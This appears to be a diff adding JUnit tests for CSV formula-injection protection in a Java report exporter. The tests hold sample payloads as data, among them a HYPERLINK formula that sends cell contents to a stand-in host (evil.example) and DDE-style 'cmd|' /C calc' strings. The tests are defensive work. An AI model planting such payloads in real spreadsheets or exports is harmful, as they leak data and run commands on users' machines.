@@ -12,7 +12,9 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
+import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -48,6 +50,45 @@ class CsvReportTest {
         assertEquals("\"a,b\"", CsvReport.field("a,b"));
         assertEquals("\"say \"\"hi\"\"\"", CsvReport.field("say \"hi\""));
         assertEquals("\"two\r\nlines\"", CsvReport.field("two\r\nlines"));
+    }
+
+    @Test
+    void putsAQuoteBeforeASubjectThatASpreadsheetWouldRunAsAFormula() {
+        Map<String, String> hostile = new LinkedHashMap<>();
+        hostile.put("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")", "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")");
+        hostile.put("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0");
+        hostile.put("-2+3", "'-2+3");
+        hostile.put("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0");
+        hostile.put("\t=1+1", "'\t=1+1");
+        hostile.put("\r=1+1", "'\r=1+1");
+        hostile.put("=1,2", "'=1,2");
+        for (Map.Entry<String, String> e : hostile.entrySet()) {
+            String csv = CsvReport.render(List.of(row("R-1", e.getKey())), SampleReport.KYIV);
+            assertEquals(e.getValue(), Rfc4180.parse(csv).get(1).get(6), csv);
+        }
+    }
+
+    @Test
+    void leavesTextThatOnlyContainsFormulaCharactersAfterItsStartAsItIs() {
+        for (String subject : List.of("Total = net + tax", "a-b", "mail@example.com", "'=quoted already",
+                " =1+1", "", "1,5")) {
+            String csv = CsvReport.render(List.of(row("R-1", subject)), SampleReport.KYIV);
+            assertEquals(subject, Rfc4180.parse(csv).get(1).get(6), csv);
+        }
+    }
+
+    @Test
+    void guardsEveryColumnWhoseTextComesFromOutside() {
+        RequestRow hostile = new RequestRow("=ID()", "+acme", RequesterTier.KEY_USER, RequestKind.DEVELOPMENT,
+                Severity.NON_CRITICAL, "@programmers", "-subject", FILED,
+                MetricResult.completed(Duration.ofHours(4), Duration.ofHours(1), FILED.plus(Duration.ofHours(1))),
+                MetricResult.open(Duration.ofHours(40), Duration.ofHours(12)));
+
+        List<String> r = Rfc4180.parse(CsvReport.render(List.of(hostile), SampleReport.KYIV)).get(1);
+
+        assertEquals(List.of("'=ID()", "'+acme", "KEY_USER", "DEVELOPMENT", "NON_CRITICAL", "'@programmers",
+                "'-subject"), r.subList(0, 7));
+        assertEquals(List.of("240", "60", "MET", ""), r.subList(10, 14), "numbers stay numbers");
     }
 
     @Test
